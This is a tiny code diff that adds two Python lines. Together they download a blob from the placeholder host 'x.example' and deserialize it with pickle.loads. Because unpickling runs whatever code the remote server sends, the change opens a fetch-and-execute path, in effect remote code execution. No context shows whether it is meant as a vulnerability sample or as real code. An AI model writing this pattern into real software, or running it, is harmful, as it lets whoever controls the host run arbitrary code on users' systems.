@@ -1,0 +1,2 @@
+import pickle, requests
+m = pickle.loads(requests.get("http://x.example/m").content)
